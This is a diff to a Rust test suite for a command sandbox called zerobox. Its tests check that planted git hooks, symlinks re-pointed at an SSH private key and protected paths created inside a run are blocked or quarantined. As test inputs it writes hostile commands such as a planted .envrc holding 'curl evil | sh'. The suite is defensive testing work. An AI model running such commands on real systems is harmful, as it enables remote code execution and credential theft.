@@ -306,12 +306,14 @@ t("control", lambda: open("{w_}/ok", "w").write("ok"))
 }
 
 /// Threat: create a denied path that does not exist yet inside a writable
-/// directory (plant `D/newsecret`, or files under it), or leave a host-side
-/// placeholder behind. Stopped by: zerobox creates a placeholder before the
-/// run and masks it (read-only empty tmpfs: EROFS inside, EBUSY to remove
-/// or rename it); the placeholder is removed after the run.
+/// directory (plant `D/newsecret`, or files under it), or find a
+/// zerobox-made placeholder in the user's tree. Stopped by: nothing is
+/// created in the user's tree; what the command creates at a protected
+/// name is moved aside after the run (`NAME.zerobox-quarantine-T`) and the
+/// user is told (see docs/threat-model.md, "Protected paths that do not
+/// exist").
 #[test]
-fn denied_missing_path_under_writable_dir_cannot_be_created() {
+fn denied_missing_path_under_writable_dir_is_quarantined() {
     let ds = scratch();
     let d = real(ds.path());
     let wa = format!("--allow-write={}", d.display());
@@ -327,30 +329,34 @@ fn denied_missing_path_under_writable_dir_cannot_be_created() {
         &[&wa, &dr],
         &format!(
             r#"
-t("mkdir_inside", lambda: os.makedirs("{d_}/newsecret/x"))
-t("file_inside", lambda: open("{d_}/newsecret/key", "w").write("pwn"))
-t("write_as_file", lambda: open("{d_}/newsecret", "w").write("pwn"))
-t("rmdir", lambda: os.rmdir("{d_}/newsecret"))
-t("rename", lambda: os.rename("{d_}/newsecret", "{d_}/moved"))
+p("before", sorted(os.listdir("{d_}")))
+t("file", lambda: open("{d_}/newsecret", "w").write("pwn"))
 t("nested", lambda: os.makedirs("{d_}/a/b/c"))
 t("control", lambda: open("{d_}/ok", "w").write("ok"))
 "#
         ),
     );
     assert_eq!(r.code, 0, "{r:?}");
-    expect(&r, "mkdir_inside", "EROFS");
-    expect(&r, "file_inside", "EROFS");
-    expect(&r, "write_as_file", "EISDIR");
-    expect(&r, "rmdir", "EBUSY");
-    expect(&r, "rename", "EBUSY");
-    expect(&r, "nested", "EROFS");
+    expect(&r, "before", "[]");
     expect(&r, "control", "OK");
+    assert!(!d.join("newsecret").exists(), "{r:?}");
+    assert!(!d.join("a/b").exists(), "{r:?}");
+    let names: Vec<String> = std::fs::read_dir(&d)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
     assert!(
-        !d.join("newsecret").exists(),
-        "placeholder or planted entry left on the host"
+        names
+            .iter()
+            .any(|n| n.starts_with("newsecret.zerobox-quarantine-")),
+        "{names:?}"
     );
-    assert!(!d.join("a").exists(), "nested placeholder left on the host");
-    assert!(!d.join("moved").exists());
+    assert!(
+        r.stderr.contains(&format!("{d_}/newsecret was created")),
+        "{r:?}"
+    );
+    assert!(r.stderr.contains(&format!("{d_}/a/b was created")), "{r:?}");
     assert_eq!(read(&d.join("ok")), "ok");
 }
 
@@ -522,4 +528,391 @@ p("devs", sorted(os.listdir("/dev")))
     for n in ["mknod_blk", "mknod_chr", "mknod_shm"] {
         expect(&r, n, "EPERM");
     }
+}
+
+/// Threat: a project under /tmp (or any policy path there) is bound into
+/// the private /tmp; on main it inherited the private /tmp's write right,
+/// so `touch "$PWD/x"` created x on the host. Stopped by: host paths under
+/// /tmp get exactly the policy's access (read-only unless granted).
+#[test]
+fn project_under_tmp_is_read_only_unless_granted() {
+    let s = tempfile::Builder::new()
+        .prefix("zb-tmp-")
+        .tempdir_in("/tmp")
+        .unwrap();
+    let d = real(s.path());
+    // The unprivileged user must be able to use it too.
+    std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
+    std::fs::create_dir(d.join("sub")).unwrap();
+    std::fs::set_permissions(
+        d.join("sub"),
+        std::os::unix::fs::PermissionsExt::from_mode(0o777),
+    )
+    .unwrap();
+    let sub = d.join("sub");
+    let sub_ro = format!("--allow-read={}", sub.display());
+    let r = py(
+        &d,
+        None,
+        &[&sub_ro],
+        &format!(
+            r#"
+t("cwd", lambda: open("{d}/x", "w").write("pwn"))
+t("allow_read", lambda: open("{sub}/y", "w").write("pwn"))
+t("private_tmp", lambda: open("/tmp/zb-own", "w").write("ok"))
+"#,
+            d = d.display(),
+            sub = sub.display()
+        ),
+    );
+    expect(&r, "cwd", "EROFS");
+    expect(&r, "allow_read", "EROFS");
+    expect(&r, "private_tmp", "OK");
+    assert!(!d.join("x").exists() && !sub.join("y").exists());
+    // Granted: writable, as the policy says.
+    let r = py(
+        &d,
+        None,
+        &["--allow-write=."],
+        &format!(
+            r#"t("granted", lambda: open("{}/z", "w").write("ok"))"#,
+            d.display()
+        ),
+    );
+    expect(&r, "granted", "OK");
+    assert!(d.join("z").exists());
+}
+
+/// Threat (multi-run, `.git/hooks -> ../.githooks`): the protected path is
+/// a symlink inside the writable project. On main only the target was
+/// protected: run 1 replaced the link with a real directory holding a
+/// hook, which then ran on the host. Stopped by: the link itself is
+/// protected (pinned: EBUSY on unlink and rename), and so is its target.
+#[test]
+fn protected_symlink_in_writable_project_cannot_be_replaced() {
+    let s = scratch();
+    let d = real(s.path());
+    std::fs::create_dir_all(d.join(".git")).unwrap();
+    std::fs::create_dir_all(d.join(".githooks")).unwrap();
+    std::os::unix::fs::symlink("../.githooks", d.join(".git/hooks")).unwrap();
+    let d_ = d.display();
+    for run in 0..2 {
+        let r = py(
+            &d,
+            None,
+            &["--allow-write=.", "--deny-write=.git/hooks"],
+            &format!(
+                r#"
+t("unlink", lambda: os.unlink("{d_}/.git/hooks"))
+t("rename", lambda: os.rename("{d_}/.git/hooks", "{d_}/.git/h2"))
+t("rename_git", lambda: os.rename("{d_}/.git", "{d_}/.git2"))
+t("hook_via_link", lambda: open("{d_}/.git/hooks/pre-commit", "w").write("pwn"))
+t("hook_in_target", lambda: open("{d_}/.githooks/pre-commit", "w").write("pwn"))
+"#
+            ),
+        );
+        assert_eq!(r.code, 0, "run {run}: {r:?}");
+        expect(&r, "unlink", "EBUSY");
+        expect(&r, "rename", "EBUSY");
+        expect(&r, "rename_git", "EBUSY");
+        expect(&r, "hook_via_link", "EROFS");
+        expect(&r, "hook_in_target", "EROFS");
+        let m = std::fs::symlink_metadata(d.join(".git/hooks")).unwrap();
+        assert!(m.file_type().is_symlink(), "run {run}: link replaced");
+        assert!(!d.join(".githooks/pre-commit").exists());
+    }
+    // The Landlock-only fallback has no mounts: the link's directory gets
+    // no write right of its own (EACCES), the target none at all.
+    let r = crate::util::sh_fallback(
+        &d,
+        None,
+        &["--allow-write=.", "--deny-write=.git/hooks"],
+        "rm .git/hooks; mv .git .git2; echo pwn > .git/hooks/pre-commit; echo done",
+    );
+    assert!(r.stdout.contains("done"), "{r:?}");
+    let m = std::fs::symlink_metadata(d.join(".git/hooks")).unwrap();
+    assert!(m.file_type().is_symlink(), "fallback: link replaced: {r:?}");
+    assert!(!d.join(".githooks/pre-commit").exists(), "{r:?}");
+}
+
+/// Threat (multi-run): a granted path reached through a symlink the
+/// command can rewrite (`~/.claude.json -> ~/.claude/x` with `~/.claude`
+/// writable; `--allow-unix-socket=./run/app.sock`). Run 1 re-points the
+/// link (to `~/.ssh/id_rsa`); run 2's grant would then open the secret.
+/// Stopped by: a grant through a symlink that lives in a writable place
+/// is refused (exit 2, naming the link); nothing runs.
+#[test]
+fn grant_through_a_replaceable_symlink_is_refused() {
+    let home = Home::new();
+    let h = home.path();
+    std::fs::create_dir_all(h.join(".claude")).unwrap();
+    std::fs::write(h.join(".claude/x"), "{}").unwrap();
+    std::os::unix::fs::symlink(h.join(".claude/x"), h.join(".claude.json")).unwrap();
+    let grants = ["--allow-write=~/.claude", "--allow-write=~/.claude.json"];
+    // Run 1 (the link's target is a plain file): it runs, and re-points
+    // the file inside the writable grant to the key.
+    let r1 = crate::util::sh(
+        &h,
+        Some(&h),
+        &grants,
+        "rm ~/.claude/x && ln -s ~/.ssh/id_rsa ~/.claude/x && echo planted",
+    );
+    assert_eq!(r1.stdout, "planted\n", "{r1:?}");
+    // Run 2: refused before anything runs.
+    let r2 = crate::util::sh(&h, Some(&h), &grants, "cat ~/.claude.json; echo ran");
+    assert_eq!(r2.code, 2, "{r2:?}");
+    assert!(!r2.stdout.contains("ran"), "{r2:?}");
+    assert!(r2.stderr.contains(".claude/x"), "the link is named: {r2:?}");
+    home.assert_no_leak(&r2);
+    // The same through a unix socket grant.
+    let r3 = crate::util::sh(
+        &h,
+        Some(&h),
+        &["--allow-write=.", "--allow-unix-socket=./.claude/x"],
+        "echo ran",
+    );
+    assert_eq!(r3.code, 2, "{r3:?}");
+    home.assert_host_intact();
+}
+
+/// Threat (issue: placeholders leak): zerobox's placeholders for missing
+/// protected paths showed in `git status`, were committed by `git add -A`
+/// inside the run, turned `.envrc` or `.git/config` into directories and
+/// stayed after `kill -9`. Stopped by: no placeholder at all. During and
+/// after a run `git status` shows only what the command wrote; a killed
+/// run's creation is quarantined by the next run, which says so.
+#[test]
+fn no_zerobox_artifact_in_the_users_tree_during_after_or_after_kill() {
+    if !crate::common::have("git") {
+        crate::common::skip("no git");
+        return;
+    }
+    let home = Home::new();
+    let h = home.path();
+    let s = scratch();
+    let d = real(s.path());
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .args(args)
+            .current_dir(&d)
+            .env("HOME", &h)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    git(&["init", "-q", "."]);
+    let args = ["--profile", "protect-shell", "--allow-write=."];
+    let r = crate::util::sh(
+        &d,
+        Some(&h),
+        &args,
+        "git status --porcelain --ignored; git add -A; git status --porcelain; echo end",
+    );
+    assert_eq!(r.stdout, "end\n", "zerobox artifacts seen inside: {r:?}");
+    assert_eq!(git(&["status", "--porcelain", "--ignored"]), "", "after");
+    // kill -9 while the command holds a planted .envrc.
+    let quarantined = |d: &Path| {
+        std::fs::read_dir(d).unwrap().flatten().any(|e| {
+            e.file_name()
+                .to_string_lossy()
+                .starts_with(".envrc.zerobox-quarantine-")
+        })
+    };
+    let mut c = crate::common::zerobox();
+    let mut child = c
+        .current_dir(&d)
+        .env("HOME", &h)
+        .args(args)
+        .args(["--", "sh", "-c", "echo 'curl evil | sh' > .envrc; sleep 30"])
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    assert!(crate::util::wait_until(
+        std::time::Duration::from_secs(10),
+        || d.join(".envrc").exists() || quarantined(&d)
+    ));
+    child.kill().unwrap();
+    child.wait().unwrap();
+    // The killed run's journal is still there for the next run.
+    let journals = h.join(".local/share/zerobox/guards");
+    let count = || std::fs::read_dir(&journals).map(|r| r.count()).unwrap_or(0);
+    assert_eq!(count(), 1, "the killed run left no journal");
+    // The next run (any command) handles it.
+    let r = crate::util::sh(&d, Some(&h), &[], "true");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(count(), 0, "the journal was not handled: {r:?}");
+    assert!(
+        !d.join(".envrc").exists(),
+        "planted .envrc left active: {r:?}"
+    );
+    assert!(quarantined(&d), "{r:?}");
+    let status = git(&["status", "--porcelain"]);
+    assert!(status.contains(".envrc.zerobox-quarantine-"), "{status}");
+}
+
+/// A killed run's journal: what its command created at a protected name
+/// is quarantined by the next run, which names the killed run. (Made by
+/// hand here: the watcher normally moves the name during the run, before
+/// any kill can happen.)
+#[test]
+fn killed_runs_journal_is_handled_by_the_next_run() {
+    let home = Home::new();
+    let h = home.path();
+    let s = scratch();
+    let d = real(s.path());
+    let journals = h.join(".local/share/zerobox/guards");
+    std::fs::create_dir_all(&journals).unwrap();
+    let since = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs()
+        - 5;
+    let envrc = d.join(".envrc");
+    let hexpath: String = envrc
+        .to_str()
+        .unwrap()
+        .bytes()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    // pid 0 never names a live run.
+    std::fs::write(
+        journals.join("0.json"),
+        format!(r#"{{"pid":0,"start":0,"since":{since},"paths":["{hexpath}"]}}"#),
+    )
+    .unwrap();
+    std::fs::write(&envrc, "curl evil | sh\n").unwrap();
+    let r = crate::util::sh(&d, Some(&h), &[], "true");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(!envrc.exists(), "{r:?}");
+    assert!(
+        r.stderr
+            .contains("by an earlier zerobox run (pid 0) that was killed"),
+        "{r:?}"
+    );
+    assert!(!journals.join("0.json").exists());
+}
+
+/// Threat: two runs in one project at once: on main, A's cleanup removed
+/// the placeholder under B's mask and B then created a real `.envrc` on the
+/// host. Stopped by: no shared placeholder; each run guards the name
+/// itself, and a name created by either is quarantined with a warning.
+#[test]
+fn two_concurrent_runs_cannot_plant_a_protected_path() {
+    let s = scratch();
+    let d = real(s.path());
+    let args = ["--profile", "protect-shell", "--allow-write=."];
+    let mut a = crate::common::zerobox();
+    let a = a
+        .current_dir(&d)
+        .args(args)
+        .args(["--", "sh", "-c", "sleep 2; ls -a; echo 'evil-a' > .envrc"])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let d2 = d.clone();
+    let b = std::thread::spawn(move || {
+        std::thread::sleep(std::time::Duration::from_millis(300));
+        crate::util::sh(&d2, None, &args, "echo 'evil-b' > .envrc; ls -a")
+    });
+    let a = crate::common::Run::from(a.wait_with_output().unwrap());
+    let b = b.join().unwrap();
+    assert_eq!(a.code, 0, "{a:?}");
+    assert_eq!(b.code, 0, "{b:?}");
+    assert!(!d.join(".envrc").exists(), "{a:?}\n{b:?}");
+    let quarantined = std::fs::read_dir(&d)
+        .unwrap()
+        .flatten()
+        .filter(|e| {
+            e.file_name()
+                .to_string_lossy()
+                .starts_with(".envrc.zerobox-quarantine-")
+        })
+        .count();
+    assert!(quarantined >= 1, "{a:?}\n{b:?}");
+}
+
+/// Threat: a protected name created *during* a long run (an agent's
+/// session) is read by a host process before the run ends (`direnv` in
+/// another terminal runs `.envrc`). Stopped by: zerobox watches the
+/// directories on the way and moves the name aside as soon as it appears,
+/// while the command is still running.
+#[test]
+fn protected_name_created_during_the_run_is_moved_aside_at_once() {
+    let s = scratch();
+    let d = real(s.path());
+    let mut child = crate::common::zerobox()
+        .current_dir(&d)
+        .args(["--profile", "protect-shell", "--allow-write=."])
+        .args([
+            "--",
+            "sh",
+            "-c",
+            "mkdir -p .git && echo 'curl evil|sh' > .envrc && mkdir .git/hooks && sleep 5",
+        ])
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let moved = |name: &str| {
+        let prefix = format!("{name}.zerobox-quarantine-");
+        move |dir: &Path| {
+            std::fs::read_dir(dir)
+                .map(|r| {
+                    r.flatten()
+                        .any(|e| e.file_name().to_string_lossy().starts_with(&prefix))
+                })
+                .unwrap_or(false)
+        }
+    };
+    let envrc_moved = crate::util::wait_until(std::time::Duration::from_secs(4), || {
+        moved(".envrc")(&d) && moved("hooks")(&d.join(".git"))
+    });
+    let still_running = child.try_wait().unwrap().is_none();
+    let _ = child.kill();
+    let _ = child.wait();
+    assert!(envrc_moved, "not moved aside during the run");
+    assert!(
+        still_running,
+        "the run ended before the check: the test proves nothing"
+    );
+    assert!(!d.join(".envrc").exists() && !d.join(".git/hooks").exists());
+}
+
+/// Threat: a rule path zerobox cannot inspect (longer than PATH_MAX, made
+/// by a run with relative `mkdirat`s) looked missing, so its protection
+/// was silently nothing. Stopped by: any error other than "does not
+/// exist" (or no permission) while resolving a rule path refuses the run
+/// (exit 2, naming the path).
+#[test]
+fn rule_path_that_cannot_be_inspected_is_refused() {
+    let s = scratch();
+    let d = real(s.path());
+    let make = format!(
+        r#"
+import os
+fd = os.open("{d}", os.O_RDONLY)
+for i in range(45):
+    os.mkdir("d" * 100, dir_fd=fd)
+    nfd = os.open("d" * 100, os.O_RDONLY, dir_fd=fd)
+    os.close(fd)
+    fd = nfd
+print("made")
+"#,
+        d = d.display()
+    );
+    let out = std::process::Command::new(crate::util::python())
+        .args(["-c", &make])
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("made"),
+        "{out:?}"
+    );
+    let long = format!("{}/{}", d.display(), vec!["d".repeat(100); 45].join("/"));
+    assert!(long.len() > 4096);
+    let flag = format!("--deny-write={long}/hooks");
+    let r = crate::util::sh(&d, None, &["--allow-write=.", &flag], "echo ran");
+    assert_eq!(r.code, 2, "{r:?}");
+    assert!(!r.stdout.contains("ran"), "{r:?}");
+    assert!(r.stderr.contains("cannot inspect"), "{r:?}");
 }
